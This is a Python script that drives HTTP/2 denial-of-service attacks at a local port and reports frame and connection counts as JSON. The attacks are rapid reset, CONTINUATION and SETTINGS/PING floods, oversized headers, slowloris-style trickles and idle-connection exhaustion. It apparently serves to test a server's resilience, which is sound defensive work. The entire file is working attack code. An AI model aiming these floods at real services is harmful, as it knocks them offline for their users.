#!/usr/bin/python3
"""One attack on a port that speaks HTTP/2, for some seconds; then a line of JSON that says what was sent.

It speaks in frames, for no client library would send what is sent here. Where the other side ends a connection it opens the
next one. Usage: attacker.py ATTACK PORT SECONDS [--certificate FILE --key FILE] [--count N] [--greet-every N]
"""
import argparse
import json
import os
import selectors
import socket
import ssl
import struct
import time

import hpack
import hyperframe.frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
METHOD = "/xixinting.intake.v1.HallService/ListHalls"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
LAST_STREAM = 2**31 - 1
# What one send may take, so that an attack looks at its clock.
SEND_TIMEOUT_S = 2
# Until then all idle connections are to be opened.
FILL_S = 60


def frame(kind, flags, stream, payload=b""):
    """Bytes of a frame. hyperframe makes frames that are right; of these thousands are made a second, and not all are."""
    return struct.pack(">HBBBI", len(payload) >> 8, len(payload) & 0xFF, kind, flags, stream) + payload


def header_block(*more):
    """A request's headers in a form that changes no table, so that it may be sent again and again."""
    said = [(":method", "POST"), (":scheme", "https"), (":path", METHOD), (":authority", "intake.xixinting.example"),
            ("content-type", "application/grpc"), ("te", "trailers"), *more]
    # Without Huffman codes, which take hpack seconds for a megabyte.
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*pair) for pair in said], huffman=False)


class Connections:
    """Opens connections as the options say, and counts what becomes of them."""

    def __init__(self, options):
        self.options = options
        self.until = time.monotonic() + options.seconds
        self.sent = {"connections": 0, "refused": 0, "ended": 0, "frames": 0}
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.tls.check_hostname, self.tls.verify_mode = False, ssl.CERT_NONE  # whom it attacks is all the same to it
        self.tls.set_alpn_protocols(["h2"])
        if options.certificate:
            self.tls.load_cert_chain(options.certificate, options.key)

    def time_left(self):
        return time.monotonic() < self.until

    def open(self, greet=True):
        """A connection, with TLS and the preface unless it is not to greet; None if there is none to be had."""
        try:
            plain = socket.create_connection(("127.0.0.1", self.options.port), timeout=SEND_TIMEOUT_S)
            connection = self.tls.wrap_socket(plain) if greet else plain
            if greet:
                connection.sendall(PREFACE + frames.SettingsFrame(0).serialize())
        except OSError:
            self.sent["refused"] += 1
            return None
        self.sent["connections"] += 1
        return connection

    def flood(self, make, read=True):
        """Sends what `make` returns, (bytes, how many frames) for the n-th time, until the time is over."""
        while self.time_left():
            connection = self.open()
            if connection is None:
                time.sleep(0.01)
                continue
            with connection:
                self.pour(connection, make, read)

    def pour(self, connection, make, read):
        number = 0
        try:
            while self.time_left():
                made, count = make(number)
                if made is None:
                    return  # a connection has so many streams and no more
                connection.sendall(made)
                self.sent["frames"] += count
                number += 1
                if read:
                    drop_what_came(connection)
        except OSError:
            self.sent["ended"] += 1  # or it takes no more


def drop_what_came(connection):
    """Reads what lies there and no more."""
    connection.setblocking(False)
    try:
        while connection.recv(65536):
            pass
        raise ConnectionResetError  # the other side has ended it
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    finally:
        connection.settimeout(SEND_TIMEOUT_S)


def rapid_reset(connections):
    """Calls that are taken back in the same breath."""
    block = header_block()
    batch = 200

    def make(number):
        first = 1 + 2 * batch * number
        if first + 2 * batch > LAST_STREAM:
            return None, 0
        return b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
                        for stream in range(first, first + 2 * batch, 2)), 2 * batch
    connections.flood(make)


def continuation_flood(connections):
    """Headers that never end."""
    start = frame(HEADERS, END_STREAM, 1, header_block())
    more = b"".join(frame(CONTINUATION, 0, 1, hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(f"x-{i}", "y" * 16)]))
                    for i in range(100))
    empty = frame(CONTINUATION, 0, 1) * 100
    connections.flood(lambda number: (start if number == 0 else more if number % 2 else empty, 100 if number else 1))


def settings_flood(connections):
    """Settings that have to be acknowledged, by one who reads no acknowledgement."""
    made = frames.SettingsFrame(0, settings={frames.SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize() * 500
    connections.flood(lambda number: (made, 500), read=False)


def ping_flood(connections):
    """Pings that have to be answered, by one who reads no answer."""
    made = frames.PingFrame(0, opaque_data=b"xixintin").serialize() * 500
    connections.flood(lambda number: (made, 500), read=False)


def oversized_headers(connections):
    """A megabyte of headers, in fields that are each small enough."""
    block = header_block(*((f"x-{i}", "y" * 4000) for i in range(250)))
    parts = [block[i:i + 16000] for i in range(0, len(block), 16000)]

    def make(number):
        stream = 1 + 2 * number
        made = frame(HEADERS, END_STREAM, stream, parts[0])
        made += b"".join(frame(CONTINUATION, 0, stream, part) for part in parts[1:-1])
        return made + frame(CONTINUATION, END_HEADERS, stream, parts[-1]), len(parts)
    connections.flood(make)


def trickle(connections, greeting, made):
    """Keeps many connections open by a byte each second."""
    there = []
    while connections.time_left():
        while len(there) < connections.options.count and connections.time_left():
            connection = connections.open()
            if connection is None:
                break
            there.append(connection)
            send_or_end(connections, there, connection, greeting)
        for connection in list(there):
            send_or_end(connections, there, connection, made)
        time.sleep(1)


def send_or_end(connections, there, connection, made):
    try:
        connection.sendall(made)
        connections.sent["frames"] += 1
        drop_what_came(connection)
    except OSError:
        connections.sent["ended"] += 1
        connection.close()
        there.remove(connection)


def slow_headers(connections):
    block = header_block()
    trickle(connections, frame(HEADERS, END_STREAM | END_HEADERS, 1, block + b"\0" * 1000)[:20], b"\0")


def slow_body(connections):
    start = frame(HEADERS, END_HEADERS, 1, header_block())
    trickle(connections, start + frame(0, 0, 1, struct.pack(">BI", 0, 1000)), frame(0, 0, 1, b"\0"))


def idle(connections):
    """As many connections as it may have, which say nothing; one in `--greet-every` has spoken TLS and HTTP/2 first. Its time
    begins when that many have been opened."""
    there = selectors.DefaultSelector()
    connections.sent["most at a time"] = 0
    connections.until = time.monotonic() + FILL_S
    while connections.sent["connections"] < connections.options.count and connections.time_left():
        fill(connections, there)
    connections.until = time.monotonic() + connections.options.seconds
    while connections.time_left():
        fill(connections, there)


def fill(connections, there):
    options = connections.options
    for number in range(min(200, options.count - len(there.get_map()))):
        connection = connections.open(greet=number % options.greet_every == 0)
        if connection is not None:
            there.register(connection, selectors.EVENT_READ)
    connections.sent["most at a time"] = max(connections.sent["most at a time"], len(there.get_map()))
    for key, _ in there.select(timeout=0 if len(there.get_map()) < options.count else 0.2):
        if hung_up(key.fileobj):
            there.unregister(key.fileobj)
            key.fileobj.close()
            connections.sent["ended"] += 1


def hung_up(connection):
    try:
        drop_what_came(connection)
    except OSError:
        return True
    return False


ATTACKS = {attack.__name__: attack for attack in (
    rapid_reset, continuation_flood, settings_flood, ping_flood, oversized_headers, slow_headers, slow_body, idle)}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--certificate")
    parser.add_argument("--key")
    parser.add_argument("--count", type=int, default=200, help="connections at a time, of those that keep many")
    parser.add_argument("--greet-every", type=int, default=1)
    options = parser.parse_args()
    os.nice(5)  # it would otherwise take the processor from those whom it attacks: that is another attack
    connections = Connections(options)
    ATTACKS[options.attack](connections)
    print(json.dumps(connections.sent))


if __name__ == "__main__":
    main()
